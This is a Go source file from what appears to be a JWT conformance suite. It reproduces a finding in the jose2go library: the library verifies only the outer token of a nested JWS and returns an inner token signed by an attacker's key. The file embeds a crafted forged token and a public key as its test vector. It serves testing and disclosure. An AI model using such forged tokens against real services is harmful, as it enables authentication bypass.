// Standalone reproduction of a jose2go 1.5 must finding in jwt-conformance: it verifies the outer
// token of a nested JWS and hands back its payload, an inner token signed by an attacker's key
// under the pinned kid, with no sign that it is not a claims set: jose2go never reads the payload
// (no claim checks), cty "JWT" included.
//
// RFC 8725 §3.3 (binding): "All cryptographic operations used in the JWT MUST be validated and
// the entire JWT MUST be rejected if any of them fail to validate. This is true not only of JWTs
// with a single set of Header Parameters but also for Nested JWTs in which both outer and inner
// operations MUST be validated using the keys and algorithms supplied by the application."
//
// Reproduces: serialization/nested-inner-attacker-key (forgery)
//
// The library is configured exactly as the jwt-conformance adapter configures it
// (adapters/jose2go/main.go): the JWK converted to a Go key with the standard library, given to
// jose.DecodeBytes as jose2go's key callback (the key whose kid equals the header's; jose2go
// takes no algorithm list and checks no claims). Only the library and Go's standard library are
// used.
//
// Run (after scripts/setup/go.sh, which builds it): adapters/jose2go/bin/repro-nested
// or: cd adapters/jose2go/repro-nested && GO111MODULE=off GOPATH=/usr/share/gocode go run .
// Prints "REPRODUCED serialization/nested-inner-attacker-key: …" and exits 0 when the library accepts.
package main

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"math/big"
	"os"

	jose "github.com/dvsekhvalnov/jose2go"
)

const (
	vector = "serialization/nested-inner-attacker-key"
	jwks   = `{"keys":[{"alg":"ES256","crv":"P-256","kid":"primary","kty":"EC","use":"sig","x":"Og9O0oqYw6X3WZLhEr` +
		`umXMqF78CgL9XjmicCJocZZuE","y":"opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"}]}`
	token = `eyJhbGciOiJFUzI1NiIsImN0eSI6IkpXVCIsImtpZCI6InByaW1hcnkiLCJ0eXAiOiJhdCtqd3QifQ.ZXlKaGJHY2lPaUpGVXpJM` +
		`U5pSXNJbXRwWkNJNkluQnlhVzFoY25raUxDSjBlWEFpT2lKaGRDdHFkM1FpZlEuZXlKaGRXUWlPaUpvZEhSd2N6b3ZMMkZ3YVM1b` +
		`GVHRnRjR3hsSWl3aVkyeHBaVzUwWDJsa0lqb2lZMnhwWlc1MExURWlMQ0psZUhBaU9qUXhNREkwTkRRNE1EQXNJbWxoZENJNk1UQ` +
		`XdNREF3TURBd01Dd2lhWE56SWpvaWFIUjBjSE02THk5cGMzTjFaWEl1WlhoaGJYQnNaU0lzSW1wMGFTSTZJbXAwYVMwd01EQXhJa` +
		`XdpYzNWaUlqb2lNREZJV2xreVNqTkxORTAxVGpaUU4xRTRVamxUTUZReFZqSWlmUS5nX1Y2c2t5TzVnQ1hBMWY5MmIzZ0hhSjlwR` +
		`05QS1I0dmJxTzhiVFM1YVVoYzZhWlh4Rm81dXNVb3Rja1FFT0lta04wTzh3SEw3cDB1T0M4OC1DQ1VRZw.NJCMqiXkkDuGTfdjbp` +
		`fio1TbPMdPnm6fXWRGqv8rldCJHyW-hOIVWmRcPmILUFM4CnBCOcfi4nKQ7h6U-mUmFw`
)

func notReproduced(format string, args ...interface{}) {
	fmt.Printf("NOT REPRODUCED %s: %s\n", vector, fmt.Sprintf(format, args...))
	os.Exit(1)
}

func b64(s string) []byte {
	b, err := base64.RawURLEncoding.DecodeString(s)
	if err != nil {
		panic(err)
	}
	return b
}

func main() {
	var set struct {
		Keys []map[string]string `json:"keys"`
	}
	if err := json.Unmarshal([]byte(jwks), &set); err != nil {
		panic(err)
	}
	jwk := set.Keys[0]
	curve := map[string]elliptic.Curve{"P-256": elliptic.P256(), "P-384": elliptic.P384(), "P-521": elliptic.P521()}[jwk["crv"]]
	key := &ecdsa.PublicKey{Curve: curve, X: new(big.Int).SetBytes(b64(jwk["x"])), Y: new(big.Int).SetBytes(b64(jwk["y"]))}
	callback := func(headers map[string]interface{}, payload string) interface{} {
		if headers["kid"] == jwk["kid"] {
			return key
		}
		return errors.New("no key with that kid")
	}
	payload, headers, err := jose.DecodeBytes(token, callback)
	if err != nil {
		notReproduced("jose2go rejected the token: %v", err)
	}
	fmt.Printf("REPRODUCED %s: jose2go accepted the outer token (alg %v) and returned its payload, the %d-byte inner token signed by another key\n", vector, headers["alg"], len(payload))
}
